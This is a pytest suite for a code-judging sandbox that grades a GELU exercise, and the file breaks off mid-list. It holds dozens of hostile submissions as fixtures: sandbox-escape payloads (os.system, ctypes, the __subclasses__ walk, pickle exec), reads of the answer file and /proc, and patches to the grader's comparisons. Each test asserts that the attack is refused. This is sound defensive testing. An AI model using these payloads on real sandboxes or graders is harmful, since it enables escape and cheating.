"""Hostile submissions, graded end to end through `grade()` with a real pool: policy, tripwire and OS jail.

Each test states what the attack tries (one line), asserts the verdict, and asserts that the attack achieved
nothing: no file appeared on the host, no secret or expected value reached the report, no process was left
behind, the judge and its pool still grade the model solution afterwards. Verdicts are never `accepted` and
never `internal_error`.

The last section switches the language policy off (the submission is compiled as plain Python, so attribute
guards vanish and `().__class__.__base__.__subclasses__()` reaches `os`): what remains is the OS jail alone,
and the same attacks must still achieve nothing. That is the layer the design calls the real boundary.

Decision on hidden cases (see judge/grade.py): what the code prints during a hidden case is never shown, and a
hidden case's exception shows its type and the learner's own line, never its message.
"""

from __future__ import annotations

import dataclasses
import json
import os
import re
import select
import socket
import textwrap
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

import sandbox
from judge.catalog import Catalog
from judge.exercise import Exercise, Forbidden
from judge.i18n import Text
from judge.pools import new_pool
from judge.report import Report
from sandbox import policy, uids
from sandbox.limits import Limits
from sandbox.pool import Pool
from tests.judging import judged

ROOT = os.geteuid() == 0
pytestmark = pytest.mark.skipif(not ROOT, reason="the jail needs root, as on the judge's machines and in CI")

REPO = Path(__file__).resolve().parents[3]
GELU_DIR = REPO / "exercises" / "gelu"
EXPECTED_JSON = GELU_DIR / "expected.json"
REFERENCE_PY = REPO / "reference" / "gelu.py"
MODEL = {track: (GELU_DIR / "solutions" / f"{track}.py").read_text() for track in ("numpy", "torch")}
# A value only expected.json holds (a hidden case's expected GELU, to 16 digits): it must never reach a report.
EXPECTED_SECRET = "2.2687485526424345"
MARK = f"mljudge-attack-{uuid.uuid4().hex[:12]}"  # unique names for files the attacks try to create
PWNED = f"/tmp/{MARK}-pwned"  # what `touch /tmp/pwned` in an attack really tries to create
JAIL_UIDS = range(uids.FIRST_UID, uids.LAST_UID + 1)  # sandbox.uids: a block per pool, a uid per zygote slot
BAD_VERDICTS = ("accepted", "internal_error")


# --- helpers ---------------------------------------------------------------------------------------------------


def src(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def text_of(report: Report) -> str:
    """Everything a learner would see, as one string."""
    return json.dumps(report.to_dict(), ensure_ascii=False, default=str)


def attack(exercise: Exercise, pool: Pool, source: str | bytes, verdict: str, *names: str, track: str | None = None,
           **kwargs: object) -> Report:
    """Grade a hostile submission; check the verdict, that the message names what was refused, and the basics.
    "/tmp/pwned" in a source becomes a name unique to this run, which the autouse check looks for on the host."""
    if isinstance(source, str):
        source = source.replace("/tmp/pwned", PWNED)
    report = judged(exercise, source, track, pool=pool, **kwargs)  # type: ignore[arg-type]
    assert report.verdict not in BAD_VERDICTS, (report.verdict, report.message)
    assert report.verdict == verdict, (report.verdict, report.message, [c.message for c in report.cases])
    for name in names:
        assert name in report.message, (name, report.message)
    assert EXPECTED_SECRET not in text_of(report)
    return report


def assert_judge_works(exercise: Exercise, pool: Pool, *tracks: str) -> None:
    """The pool survived: the model solution is still accepted."""
    for track in tracks or ("numpy",):
        report = judged(exercise, MODEL[track], track, pool=pool)
        assert report.verdict == "accepted", (track, report.message)


def processes() -> dict[int, tuple[int, int, str, float]]:
    """pid -> (parent pid, real uid, command line, CPU seconds used), read from the host's /proc."""
    found = {}
    ticks = os.sysconf("SC_CLK_TCK")
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            stat = Path(f"/proc/{entry}/stat").read_text().rpartition(")")[2].split()
        except OSError:
            continue  # exited while we looked
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        cpu = (int(stat[11]) + int(stat[12])) / ticks  # utime + stime
        found[int(entry)] = (int(fields["PPid"]), int(fields["Uid"].split()[0]), cmdline, cpu)
    return found


def is_zygote(cmdline: str) -> bool:
    return "sandbox.zygote" in cmdline


# An armed child (jailed, waiting for its job) has used only the CPU of its jail's setup.
ARMED_CPU_SECONDS = 0.5


@pytest.fixture(autouse=True)
def no_strays() -> Iterator[None]:
    """After every attack: the test process has no new children but zygotes; a zygote has at most one jailed
    child, and that one is the next child, armed and idle (a child that outlived its run would have used CPU);
    no jailed process runs under another jailed process (a fork got out), or anywhere but under a zygote or a
    test process (test_isolation forks jailed children from pytest itself, possibly in a concurrent run): an
    escaped fork is reparented to init or a subreaper."""
    me = os.getpid()
    before = {pid for pid, (ppid, *_) in processes().items() if ppid == me}
    yield
    now = processes()
    ours = {pid for pid, (ppid, _, cmd, _) in now.items() if ppid == me and is_zygote(cmd)}
    strays = {pid: cmd for pid, (ppid, _, cmd, _) in now.items() if ppid == me and pid not in before | ours}
    assert not strays, f"children of the test process that are not zygotes: {strays}"
    jailed = {pid: (ppid, cpu) for pid, (ppid, uid, _, cpu) in now.items() if uid in JAIL_UIDS}
    under_zygotes = [ppid for ppid, _ in jailed.values() if ppid in ours]
    assert len(under_zygotes) == len(set(under_zygotes)), "a zygote has more than one jailed child"
    busy = {pid: cpu for pid, (ppid, cpu) in jailed.items() if ppid in ours and cpu > ARMED_CPU_SECONDS}
    assert not busy, f"a jailed child outlived its run: {busy}"
    assert not {pid for pid, (ppid, _) in jailed.items() if ppid in jailed}, "a jailed process has a child"
    parents = {pid: now[ppid][2] if ppid in now else "" for pid, (ppid, _) in jailed.items()}
    escaped = {pid: cmd for pid, cmd in parents.items() if not (is_zygote(cmd) or "pytest" in cmd)}
    assert not escaped, f"jailed processes outside any zygote: {escaped}"
    assert not Path(PWNED).exists(), "an attack ran a command on the host"


@pytest.fixture
def host_paths() -> Iterator[list[Path]]:
    """Paths on the host that attacks try to create; each must not exist afterwards (and is removed if it does)."""
    paths = [Path(p) for p in (f"/tmp/{MARK}", f"/tmp/{MARK}.npy", f"/tmp/{MARK}.pt", f"/tmp/{MARK}.txt",
                               REPO / f"{MARK}.npy", REPO / f"{MARK}.pt", f"/root/{MARK}.npy", f"/root/{MARK}.pt",
                               REPO / "exercises" / "gelu" / f"{MARK}.json")]
    yield paths
    created = [p for p in paths if p.exists()]
    for p in created:
        p.unlink()
    assert not created, f"attacks created files on the host: {created}"


@pytest.fixture
def fast(gelu: Exercise) -> Exercise:
    """GELU with tighter time limits (1 s CPU, 2 s wall): the same verdicts, a quicker suite."""
    return dataclasses.replace(gelu, limits=Limits.from_mapping({"cpu_seconds": 1, "wall_seconds": 2}, gelu.limits))


@dataclass(frozen=True)
class Attack:
    id: str
    source: str
    verdict: str
    names: tuple[str, ...] = ()  # what the report's message must name

    def param(self) -> object:
        return pytest.param(self, id=self.id)


def run_attacks(attacks: list[Attack]) -> list[object]:
    return [a.param() for a in attacks]


# --- 1. reading expected values or the reference from disk ---------------------------------------------------

READS = [
    # open() the expected values by absolute path
    Attack("open-expected", src(f"""
        def gelu(x):
            return open({str(EXPECTED_JSON)!r}).read()
        """), "forbidden", ("open()",)),
    # np.loadtxt on expected.json: the checkout is not in the jail
    Attack("np-loadtxt-expected", src(f"""
        import numpy as np
        def gelu(x):
            return np.loadtxt({str(EXPECTED_JSON)!r}, dtype=str)
        """), "runtime_error", ("FileNotFoundError",)),
    # np.genfromtxt on the reference implementation
    Attack("np-genfromtxt-reference", src(f"""
        import numpy as np
        def gelu(x):
            return np.genfromtxt({str(REFERENCE_PY)!r}, dtype=str, delimiter="\\n")
        """), "runtime_error", ("FileNotFoundError",)),
    # np.fromfile on expected.json
    Attack("np-fromfile-expected", src(f"""
        import numpy as np
        def gelu(x):
            return np.fromfile({str(EXPECTED_JSON)!r}, dtype=np.uint8)
        """), "runtime_error", ("PermissionError", "cannot open files")),
    # np.memmap (read-only) on expected.json
    Attack("np-memmap-expected", src(f"""
        import numpy as np
        def gelu(x):
            return np.memmap({str(EXPECTED_JSON)!r}, mode="r", dtype=np.uint8)
        """), "runtime_error", ("FileNotFoundError",)),
    # np.load (also a pickle gateway) on expected.json
    Attack("np-load-expected", src(f"""
        import numpy as np
        def gelu(x):
            return np.load({str(EXPECTED_JSON)!r})
        """), "forbidden", ("numpy.load",)),
    # torch.load on expected.json
    Attack("torch-load-expected", src(f"""
        import torch
        def gelu(x):
            return torch.load({str(EXPECTED_JSON)!r})
        """), "forbidden", ("torch.load",)),
    # torch.from_file maps any file into a tensor: refused by identity (sandbox.corners.RAW_MEMORY)
    Attack("torch-from-file-expected", src(f"""
        import torch
        def gelu(x):
            return torch.from_file({str(EXPECTED_JSON)!r}, size=64, dtype=torch.uint8)
        """), "forbidden", ("torch.from_file",)),
    # a relative path climbing out of the working directory
    Attack("np-loadtxt-relative", src(f"""
        import numpy as np
        def gelu(x):
            return np.loadtxt({"../../../.." + str(EXPECTED_JSON)!r}, dtype=str)
        """), "runtime_error", ("FileNotFoundError",)),
    # the judge's memory through /proc
    Attack("np-loadtxt-proc-environ", src("""
        import numpy as np
        def gelu(x):
            return np.loadtxt("/proc/1/environ", dtype=str)
        """), "runtime_error", ("FileNotFoundError",)),
]


@pytest.mark.parametrize("case", run_attacks(READS))
def test_reading_files(gelu: Exercise, pool: Pool, case: Attack) -> None:
    report = attack(gelu, pool, case.source, case.verdict, *case.names)
    assert report.passed == 0


# --- 2. frames, gc, /proc, formatting and eval routes to the judge's state ------------------------------------

INTROSPECTION = [
    # a generator's frame, by attribute
    Attack("gen-gi-frame", src("""
        def gelu(x):
            gen = (v for v in [x])
            return gen.gi_frame.f_back.f_locals
        """), "forbidden"),
    # the same frame, by a computed getattr name
    Attack("getattr-gi-frame", src("""
        def gelu(x):
            gen = (v for v in [x])
            return getattr(gen, "gi_" + "frame")
        """), "forbidden", ("gi_frame",)),
    # a traceback's frame, from an exception caught in place
    Attack("traceback-tb-frame", src("""
        def gelu(x):
            try:
                1 / 0
            except ZeroDivisionError as exc:
                return exc.__traceback__.tb_frame.f_back.f_locals
        """), "forbidden"),
    # the traceback through getattr with a concatenated name
    Attack("getattr-traceback", src("""
        def gelu(x):
            try:
                1 / 0
            except ZeroDivisionError as exc:
                return getattr(exc, "__trace" + "back__")
        """), "forbidden", ("__traceback__",)),
    # sys._getframe after importing sys
    Attack("import-sys-getframe", src("""
        import sys
        def gelu(x):
            return sys._getframe(1).f_locals
        """), "forbidden", ("sys",)),
    # sys reached as an attribute of an allowed module (typing imports it)
    Attack("typing-sys", src("""
        import typing
        def gelu(x):
            return getattr(typing.sys, "_get" + "frame")(1).f_locals
        """), "forbidden", ("sys",)),
    # the garbage collector's view of every object
    Attack("import-gc", src("""
        import gc
        def gelu(x):
            return [o for o in gc.get_objects() if isinstance(o, dict) and "expected" in o]
        """), "forbidden", ("gc",)),
    # inspect.stack()
    Attack("import-inspect", src("""
        import inspect
        def gelu(x):
            return inspect.stack()
        """), "forbidden", ("inspect",)),
    # inspect reached through numpy.ma.core
    Attack("np-ma-inspect", src("""
        import numpy as np
        def gelu(x):
            return np.ma.core.inspect.stack()
        """), "forbidden", ("inspect",)),
    # "{0.__class__}".format(x) walks attributes without the attribute guard
    Attack("str-format-dunder", src("""
        def gelu(x):
            print("{0.__class__.__base__.__subclasses__}".format(x))
            return x
        """), "forbidden", ("__class__",)),
    # the unbound form str.format(template, x)
    Attack("str-format-unbound", src("""
        def gelu(x):
            print(str.format("{0.gi_frame.f_back.f_locals}", (v for v in [x])))
            return x
        """), "forbidden", ("gi_frame",)),
    # format_map with a mapping
    Attack("str-format-map", src("""
        def gelu(x):
            print("{v.__class__.__mro__}".format_map({"v": x}))
            return x
        """), "forbidden", ("__class__",)),
    # an f-string reaching a dunder
    Attack("f-string-dunder", src("""
        def gelu(x):
            print(f"{x.__class__.__base__.__subclasses__()}")
            return x
        """), "forbidden"),
    # typing.get_type_hints eval()s a string annotation with plain (unguarded) attribute access
    Attack("typing-get-type-hints-eval", src("""
        import typing
        def probe(a: "().__class__.__base__.__subclasses__()"):
            pass
        def gelu(x):
            return typing.get_type_hints(probe)
        """), "forbidden", ("typing.get_type_hints",)),
    # functools.singledispatch.register evaluates annotations the same way
    Attack("singledispatch-eval", src("""
        import functools
        @functools.singledispatch
        def base(arg):
            return 0
        def evil(arg: "print(().__class__.__base__.__subclasses__()) or int"):
            return 1
        base.register(evil)
        def gelu(x):
            return x
        """), "forbidden", ("functools.singledispatch",)),
    # the same, reached by a computed name at run time
    Attack("singledispatch-getattr", src("""
        import functools
        def gelu(x):
            return getattr(functools, "single" + "dispatch")
        """), "forbidden", ("functools.singledispatch",)),
    # np.load(allow_pickle=True) of a pickle the code writes to its /tmp: unrestricted exec
    Attack("np-load-pickle-exec", src("""
        import numpy as np
        PAYLOAD = b"cbuiltins\\nexec\\n(Vprint(().__class__.__base__.__subclasses__())\\ntR."
        def gelu(x):
            header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
            header = header + b" " * (118 - len(header)) + b"\\n"
            raw = b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header + PAYLOAD
            m = np.memmap("/tmp/p.npy", mode="w+", dtype=np.uint8, shape=(len(raw),))
            m[:] = np.frombuffer(raw, dtype=np.uint8)
            m.flush()
            return getattr(np, "lo" + "ad")("/tmp/p.npy", allow_pickle=True)
        """), "forbidden", ("open",)),  # writing the payload is refused already (sandbox.audit)
    # the unpickler itself, reached by a computed name, on a file that might exist
    Attack("np-load-by-name", src("""
        import numpy as np
        def gelu(x):
            return getattr(np, "lo" + "ad")("/dev/zero", allow_pickle=True)
        """), "forbidden", ("numpy.load",)),
    # torch.load(weights_only=False) of a raw pickle: unrestricted exec
    Attack("torch-load-pickle-exec", src("""
        import numpy as np
        import torch
        PAYLOAD = b"cbuiltins\\nexec\\n(Vprint(().__class__)\\ntR."
        def gelu(x):
            m = np.memmap("/tmp/p.pt", mode="w+", dtype=np.uint8, shape=(len(PAYLOAD),))
            m[:] = np.frombuffer(PAYLOAD, dtype=np.uint8)
            m.flush()
            return torch.serialization.load("/tmp/p.pt", weights_only=False)
        """), "forbidden", ("open",)),
    Attack("torch-load-by-alias", src("""
        import torch
        def gelu(x):
            return torch.serialization.load("/dev/zero", weights_only=False)
        """), "forbidden", ("torch.load",)),
    # a private module whose no_dispatch() turns the aten guard off around F.gelu
    Attack("private-module-no-dispatch", src("""
        import torch
        import torch.nn.functional
        from torch.utils._mode_utils import no_dispatch
        def gelu(x):
            fns = torch.overrides.get_overridable_functions()[torch.nn.functional]
            with no_dispatch():
                return [f for f in fns if f.__name__ == "gelu"][0](x, approximate="tanh")
        """), "forbidden", ("torch.utils._mode_utils",)),
    # a private module reached through a public attribute (torch.export.pytree is torch.utils._pytree)
    Attack("private-module-by-attribute", src("""
        import torch
        import torch.export
        def gelu(x):
            return torch.export.pytree.tree_map(lambda t: t, x)
        """), "forbidden", ("torch.utils._pytree",)),
]


@pytest.mark.parametrize("case", run_attacks(INTROSPECTION))
def test_introspection(gelu: Exercise, pool: Pool, case: Attack) -> None:
    report = attack(gelu, pool, case.source, case.verdict, *case.names)
    assert "subclasses" not in report.stdout and "<class" not in report.stdout


def test_forbidden_function_through_a_container_is_still_caught(gelu: Exercise, pool: Pool) -> None:
    # F.gelu fished out of torch.overrides' tables (no attribute access to guard): torch's function mode sees
    # the call by identity (and the aten guard would see the op)
    report = attack(gelu, pool, src("""
        import torch
        import torch.nn.functional
        def gelu(x):
            fns = torch.overrides.get_overridable_functions()[torch.nn.functional]
            return [f for f in fns if f.__name__ == "gelu"][0](x, approximate="tanh")
        """), "forbidden", "`torch.nn.functional.gelu` is not allowed", "build GELU yourself")
    assert report.passed == 0


def test_a_forbidden_function_is_caught_when_a_library_calls_it(pool: Pool) -> None:
    # Only F.dropout is forbidden here, by name (no aten op: on CPU the dispatcher never sees "dropout", only
    # bernoulli_ and mul). nn.Dropout itself is allowed, but its forward calls F.dropout for the submission:
    # torch's function mode catches that call by identity, below the submission's own code.
    exercise = dataclasses.replace(Catalog().get("dropout"), forbidden=(
        Forbidden(("torch.nn.functional.dropout",), (), Text({"en": "Build it yourself.", "ru": "Сами."})),))
    source = src("""
        import torch
        def dropout(x, p, training=True, seed=0):
            torch.manual_seed(seed)
            layer = torch.nn.Dropout(p)
            layer.train(training)
            return layer(x)
        """)
    report = attack(exercise, pool, source, "forbidden", "`torch.nn.functional.dropout` is not allowed",
                    track="torch")
    assert report.passed == 0

def test_swallowing_the_violation_does_not_help(gelu: Exercise, pool: Pool) -> None:
    # catch the tripwire's exception and answer correctly anyway: the violation was recorded where code can't reach
    attack(gelu, pool, src("""
        import torch
        import torch.nn.functional as F
        def gelu(x):
            try:
                getattr(F, "ge" + "lu")
            except BaseException:
                pass
            return 0.5 * x * (1 + torch.tanh(0.7978845608028654 * (x + 0.044715 * x**3)))
        """), "forbidden", "torch.nn.functional.gelu")


# --- 3. patching the comparison --------------------------------------------------------------------------------

PATCHING = [
    # replace np.allclose so that every comparison passes
    Attack("np-allclose-assign", src("""
        import numpy as np
        np.allclose = lambda *a, **k: True
        def gelu(x):
            return x
        """), "forbidden", ("numpy",)),
    # the same through setattr
    Attack("np-allclose-setattr", src("""
        import numpy as np
        setattr(np, "allclose", lambda *a, **k: True)
        def gelu(x):
            return x
        """), "forbidden", ("numpy",)),
    # delete it instead
    Attack("np-isclose-delattr", src("""
        import numpy as np
        delattr(np, "isclose")
        def gelu(x):
            return x
        """), "forbidden", ("numpy",)),
    # np.testing's assertions
    Attack("np-testing-patch", src("""
        import numpy as np
        np.testing.assert_allclose = lambda *a, **k: None
        def gelu(x):
            return x
        """), "forbidden", ("numpy.testing",)),
    # ndarray.__eq__ on the class itself
    Attack("ndarray-eq-assign", src("""
        import numpy as np
        np.ndarray.__eq__ = lambda a, b: True
        def gelu(x):
            return x
        """), "forbidden", ("__eq__",)),
    # a public method of a library class
    Attack("ndarray-setattr-method", src("""
        import numpy as np
        setattr(np.ndarray, "all", lambda self, *a, **k: True)
        def gelu(x):
            return x
        """), "forbidden", ("ndarray",)),
    # torch.allclose and a Tensor method
    Attack("torch-patch", src("""
        import torch
        torch.allclose = lambda *a, **k: True
        torch.Tensor.tanh = lambda self: self
        def gelu(x):
            return x
        """), "forbidden", ("torch",)),
    # the module's namespace dict
    Attack("np-dict", src("""
        import numpy as np
        def gelu(x):
            vars(np)["allclose"] = lambda *a, **k: True
            return x
        """), "forbidden", ("vars()",)),
]


@pytest.mark.parametrize("case", run_attacks(PATCHING))
def test_patching(gelu: Exercise, pool: Pool, case: Attack) -> None:
    attack(gelu, pool, case.source, case.verdict, *case.names)


def test_patching_leaves_the_judge_intact(gelu: Exercise, pool: Pool) -> None:
    # even a patch that "worked" in the child could only fool the child: comparison runs in the judge
    attack(gelu, pool, PATCHING[0].source, "forbidden")
    import numpy as np

    assert not np.allclose(np.zeros(2), np.ones(2))
    assert_judge_works(gelu, pool, "numpy", "torch")


# --- 4. answers that lie ---------------------------------------------------------------------------------------

LIARS = [
    # an ndarray subclass claiming equality and zero difference
    Attack("ndarray-subclass-eq-sub", src("""
        import numpy as np
        class Liar(np.ndarray):
            def __eq__(self, other):
                return np.ones(np.shape(other), dtype=bool)
            def __sub__(self, other):
                return np.zeros(np.shape(other))
            def __len__(self):
                return 3
        def gelu(x):
            return np.zeros_like(x).view(Liar)
        """), "wrong_answer"),
    # a plain object that equals everything
    Attack("object-eq-len-sub", src("""
        class Liar:
            def __eq__(self, other):
                return True
            def __sub__(self, other):
                return 0.0
            def __len__(self):
                return 3
            def __getitem__(self, i):
                return 0.0
        def gelu(x):
            return Liar()
        """), "wrong_answer"),
    # __array__ / __array_ufunc__ / __float__ hooks (refused by the policy)
    Attack("array-hooks-class", src("""
        import numpy as np
        class Liar:
            def __array__(self, dtype=None, copy=None):
                return np.zeros(3)
            def __array_ufunc__(self, *args, **kwargs):
                return True
            def __float__(self):
                return 0.0
        def gelu(x):
            return Liar()
        """), "forbidden", ("__array__",)),
    # the same hooks smuggled in through type()'s three-argument form
    Attack("array-hooks-type3", src("""
        import numpy as np
        Liar = type("Liar", (np.ndarray,), {
            "__array_ufunc__": lambda *a, **k: True, "__eq__": lambda a, b: True, "__float__": lambda s: 0.0})
        def gelu(x):
            return np.zeros_like(x).view(Liar)
        """), "wrong_answer"),
    # an object array of objects lying in __float__
    Attack("object-array-float-hook", src("""
        import numpy as np
        F = type("F", (), {"__float__": lambda s: 0.5})
        def gelu(x):
            out = np.empty(x.shape, dtype=object)
            out.flat[:] = [F() for _ in range(x.size)]
            return out
        """), "wrong_answer"),
    # a torch.Tensor subclass that lies
    Attack("tensor-subclass", src("""
        import torch
        class Liar(torch.Tensor):
            def __eq__(self, other):
                return True
            def __sub__(self, other):
                return torch.zeros(3)
        def gelu(x):
            return torch.zeros_like(x).as_subclass(Liar)
        """), "wrong_answer"),
]


@pytest.mark.parametrize("case", run_attacks(LIARS))
def test_lying_answers(gelu: Exercise, pool: Pool, case: Attack) -> None:
    report = attack(gelu, pool, case.source, case.verdict, *case.names)
    assert report.passed == 0


# Every wrong kind of answer: never accepted. `passed` counts cases that still match (float16 rounds well
# enough on some cases; bool/int arrays equal GELU where it is 0).
WRONG_RETURNS = {
    "nan": "np.full_like(x, np.nan)",
    "inf": "np.full_like(x, np.inf)",
    "minus-inf": "np.full_like(x, -np.inf)",
    "int-dtype": "GOOD.astype(np.int64)",
    "bool-dtype": "GOOD > 0",
    "complex-dtype": "GOOD.astype(np.complex128)",
    # astype() would turn these back into the very numbers they spell: they must not cross as floats
    "str-dtype": "GOOD.astype(str)",
    "bytes-dtype": "GOOD.astype('S32')",
    "structured-dtype": "GOOD.astype([('a', 'f8')])",
    "datetime-dtype": "GOOD.astype('datetime64[ns]')",
    "float16": "GOOD.astype(np.float16)",
    "wrong-shape": "GOOD.reshape(-1)[None]",
    "python-list": "GOOD.tolist()",
    "zero-d-array": "np.array(float(GOOD.flat[0]))",
    "numpy-scalar": "np.float64(GOOD.flat[0])",
    "none": "None",
    "generator": "(v for v in GOOD.flat)",
    "string": "str(GOOD)",
    "dict": "{'value': GOOD}",
    "bytes": "GOOD.tobytes()",
    "deeply-nested-list": "NESTED",
}


@pytest.mark.parametrize("expression", WRONG_RETURNS.values(), ids=WRONG_RETURNS.keys())
def test_wrong_kinds_of_answer(gelu: Exercise, pool: Pool, expression: str) -> None:
    # a correct GELU turned into the wrong kind of value at the last moment
    setup = {"MILLION": "MILLION = tuple(float(i) for i in range(10**6))\n",
             "NESTED": "NESTED = []\nfor _ in range(100000):\n    NESTED = [NESTED]\n"}
    source = "import numpy as np\n" + "".join(code for name, code in setup.items() if name in expression) + src(f"""
        def gelu(x):
            GOOD = 0.5 * x * (1 + np.tanh(np.sqrt(2 / np.pi) * (x + 0.044715 * x**3)))
            return {expression}
        """)
    report = attack(gelu, pool, source, "wrong_answer")
    assert report.passed < report.total


def test_a_tuple_of_a_million_floats_is_too_large_to_send_back(gelu: Exercise, pool: Pool) -> None:
    # 8 MB per case crosses as numbers, but six of them pass the cap on what the judge reads from one run
    source = "MILLION = tuple(float(i) for i in range(10**6))\n\ndef gelu(x):\n    return MILLION\n"
    report = attack(gelu, pool, source, "output_limit", "too large")
    assert report.passed == 0


def test_an_object_array_of_correct_floats_is_converted(gelu: Exercise, pool: Pool) -> None:
    # np.frompyfunc and friends give object arrays of plain numbers: converted in the child (each element's type
    # checked exactly, so no object's __float__ speaks), and then judged like any array
    report = attack_accepted(gelu, pool, src("""
        import numpy as np
        def gelu(x):
            return (0.5 * x * (1 + np.tanh(np.sqrt(2 / np.pi) * (x + 0.044715 * x**3)))).astype(object)
        """))
    assert report.passed == report.total


def test_an_object_array_of_other_things_says_what_it_holds(gelu: Exercise, pool: Pool) -> None:
    report = attack(gelu, pool, "import numpy as np\n\ndef gelu(x):\n    return np.array([None] * x.size, "
                    "dtype=object).reshape(x.shape)\n", "wrong_answer")
    assert "dtype=object" in report.cases[0].message and "None" in report.cases[0].message
    assert ".astype(float)" in report.cases[0].message


def attack_accepted(exercise: Exercise, pool: Pool, source: str) -> Report:
    report = judged(exercise, source, pool=pool)
    assert report.verdict == "accepted", (report.message, [c.message for c in report.cases])
    return report


@pytest.mark.parametrize("track, expression, word", [
    ("numpy", "GOOD.astype(str)", "str"),
    ("numpy", "GOOD.astype(np.complex128)", "complex128"),
    ("torch", "GOOD.to(torch.complex64)", "complex64"),
])
def test_an_array_of_non_numbers_is_named_by_its_element_type(gelu: Exercise, pool: Pool, track: str,
                                                               expression: str, word: str) -> None:
    lib = "np" if track == "numpy" else "torch"
    imports = "import numpy as np\n" + ("import torch\n" if track == "torch" else "")
    report = attack(gelu, pool, f"{imports}\ndef gelu(x):\n    GOOD = 0.5 * x * (1 + "
                    f"{lib}.tanh((2 / np.pi) ** 0.5 * (x + 0.044715 * x**3)))\n    return {expression}\n",
                    "wrong_answer", track=track)
    assert report.passed == 0
    assert report.cases[0].message == f"expected real numbers, got values of type {word}", report.cases[0].message


# --- 5. escaping to the OS through the language ----------------------------------------------------------------

OS_ROUTES = [
    # subprocess
    Attack("import-subprocess", src("""
        import subprocess
        def gelu(x):
            subprocess.run(["touch", "/tmp/pwned"])
            return x
        """), "forbidden", ("subprocess",)),
    # os.system
    Attack("import-os-system", src("""
        import os
        def gelu(x):
            os.system("touch /tmp/pwned")
            return x
        """), "forbidden", ("os",)),
    # from-import of os inside the function
    Attack("from-os-import", src("""
        def gelu(x):
            from os import system
            system("id")
            return x
        """), "forbidden", ("os",)),
    # ctypes
    Attack("import-ctypes", src("""
        import ctypes
        def gelu(x):
            ctypes.CDLL(None).system(b"id")
            return x
        """), "forbidden", ("ctypes",)),
    # np.ctypeslib.ctypes.CDLL(None).system: ran a root shell command in a RestrictedPython-only probe
    Attack("np-ctypeslib", src("""
        import numpy as np
        def gelu(x):
            np.ctypeslib.ctypes.CDLL(None).system(b"touch /tmp/pwned")
            return x
        """), "forbidden", ("numpy.ctypeslib",)),
    # the same with a computed name
    Attack("np-ctypeslib-getattr", src("""
        import numpy as np
        def gelu(x):
            getattr(np, "ctypes" + "lib").ctypes.CDLL(None).system(b"id")
            return x
        """), "forbidden", ("numpy.ctypeslib",)),
    # numpy.f2py keeps os and subprocess as attributes
    Attack("np-f2py", src("""
        import numpy as np
        def gelu(x):
            np.f2py.os.system("id")
            return x
        """), "forbidden", ("numpy.f2py",)),
    # numpy.lib's modules: in NumPy 2 none of them keeps os as an attribute, so there is nothing to reach
    Attack("np-lib-os", src("""
        import numpy as np
        def gelu(x):
            for module in (np.lib.npyio, np.lib.format, np.lib.stride_tricks, np.lib.mixins):
                getattr(module, "o" + "s").system("id")
            return x
        """), "runtime_error", ("AttributeError",)),
    # import numpy.f2py directly
    Attack("import-numpy-f2py", src("""
        import numpy.f2py
        def gelu(x):
            numpy.f2py.run_main(["-h"])
            return x
        """), "forbidden", ("numpy.f2py",)),
    # os through torch's namespace
    Attack("torch-os", src("""
        import torch
        def gelu(x):
            torch.os.system("touch /tmp/pwned")
            return x
        """), "forbidden", ("os",)),
    # the object graph: ().__class__.__base__.__subclasses__()
    Attack("subclasses-walk", src("""
        def gelu(x):
            for c in ().__class__.__base__.__subclasses__():
                if c.__name__ == "_wrap_close":
                    c.__init__.__globals__["system"]("id")
            return x
        """), "forbidden", ("__class__",)),
    # type.__subclasses__(object)
    Attack("type-subclasses", src("""
        def gelu(x):
            return type.__subclasses__(object)
        """), "forbidden", ("__subclasses__",)),
    # __builtins__ and the real __import__ behind it
    Attack("builtins-dunder", src("""
        def gelu(x):
            __builtins__["__import__"]("os").system("id")
            return x
        """), "forbidden", ("__builtins__",)),
    # __import__ called by name
    Attack("dunder-import", src("""
        def gelu(x):
            __import__("os").system("id")
            return x
        """), "forbidden", ("__import__",)),
    # importlib
    Attack("importlib", src("""
        import importlib
        def gelu(x):
            importlib.import_module("os").system("id")
            return x
        """), "forbidden", ("importlib",)),
    # eval
    Attack("eval", src("""
        def gelu(x):
            return eval("__import__('os').system('id')")
        """), "forbidden", ("eval()",)),
    # exec
    Attack("exec", src("""
        def gelu(x):
            exec("import os")
            return x
        """), "forbidden", ("exec()",)),
    # compile
    Attack("compile", src("""
        def gelu(x):
            return compile("import os", "x", "exec")
        """), "forbidden", ("compile()",)),
    # getattr on the builtins module object reached through numpy.ma.core
    Attack("getattr-builtins-module", src("""
        import numpy as np
        def gelu(x):
            return getattr(np.ma.core.builtins, "ev" + "al")("1")
        """), "forbidden", ("builtins",)),
    # getattr(__builtins__, ...)
    Attack("getattr-builtins", src("""
        def gelu(x):
            return getattr(__builtins__, "ev" + "al")("1")
        """), "forbidden", ("__builtins__",)),
    # torch.utils.cpp_extension compiles and loads C++
    Attack("torch-cpp-extension", src("""
        import torch.utils.cpp_extension
        def gelu(x):
            torch.utils.cpp_extension.load_inline("x", "")
            return x
        """), "forbidden", ("torch.utils.cpp_extension",)),
    # torch.hub downloads and runs code
    Attack("torch-hub", src("""
        import torch
        def gelu(x):
            torch.hub.load("evil/repo", "model")
            return x
        """), "forbidden", ("torch.hub",)),
    # torch._C, the raw bindings
    Attack("torch-C", src("""
        import torch
        def gelu(x):
            return getattr(getattr(torch, "_" + "C"), "_nn").gelu(x)
        """), "forbidden", ("_C",)),
    # torch.ops.aten
    Attack("torch-ops", src("""
        import torch
        def gelu(x):
            return getattr(torch, "op" + "s").aten.gelu(x)
        """), "forbidden", ("torch.ops",)),
    # torch.utils.collect_env runs subprocesses
    Attack("torch-collect-env", src("""
        import torch
        import torch.utils.collect_env
        def gelu(x):
            torch.utils.collect_env.run("id")
            return x
        """), "forbidden", ("torch.utils.collect_env",)),
    # torch.compile: dynamo rewrites bytecode, inductor execs generated code and runs a C++ compiler
    Attack("torch-compile", src("""
        import torch
        def gelu(x):
            return getattr(torch, "com" + "pile")(lambda t: t * 0.5)(x)
        """), "forbidden", ("torch.compile",)),
    # torch.multiprocessing
